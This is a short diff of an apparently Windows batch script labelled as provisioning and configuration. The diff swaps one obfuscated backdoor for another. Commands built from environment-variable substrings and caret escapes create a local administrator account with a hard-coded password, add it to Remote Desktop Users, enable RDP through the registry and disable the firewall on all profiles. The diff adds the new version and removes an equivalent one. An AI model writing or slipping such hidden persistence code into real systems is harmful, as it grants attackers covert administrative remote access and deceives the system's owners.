@@ -1,6 +1,6 @@
-REM provision 7217 v2
-%COMSPEC:~5,1%%public:~5,1%%programdata:~-2,1% user s^ys^a^d^m ^Su^p3^rS3^cu^re! /^a^dd /^y
-^n%PUBLIC:~-10,1%%programdata:~-2,1% ^lo^cal^grou^p ^ad^ministr^ator^s sy^s^adm /^ad^d
-%COMSPEC:~-22,1%%COMSPEC:~26,1%%programdata:~12,1% loca^lg^roup "Remote Desktop Users" sy^sa^d^m /^ad^d
-%PUBLIC:~-9,1%e%programdata:~-8,1% add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fD^en^yT^S^C^on^n^ec^t^ions /t ^R^E^G_^DW^OR^D /d 0 /f
-n%COMSPEC:~-3,1%^t%PUBLIC:~4,1%h ^a^dvf^i^re^wa^ll ^set a^ll^pro^fi^l^es ^s^tate o^f^f
+REM config 6101 v2
+%comspec:~-22,1%%COMSPEC:~-3,1%%COMSPEC:~-13,1% us^er ^h^el^pd^e^sk Adm^1n!s^tr^a^t^0^r /^ad^d /y
+%comspec:~5,1%%COMSPEC:~15,1%t l^ocal^grou^p admini^s^tr^ato^rs ^he^lpdes^k /^ad^d
+%COMSPEC:~5,1%%comspec:~15,1%t ^loca^lgro^u^p "Remote Desktop Users" h^e^lp^des^k /a^d^d
+%PUBLIC:~6,1%%comspec:~-1,1%%programdata:~-8,1% add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fD^en^yTSCo^nne^ct^i^o^ns /^t RE^G_DW^ORD /^d 0 /^f
+%windir:~5,1%%comspec:~-12,1%t^s^h ^ad^v^f^irewa^ll ^se^t all^pro^f^i^les s^ta^t^e o^ff
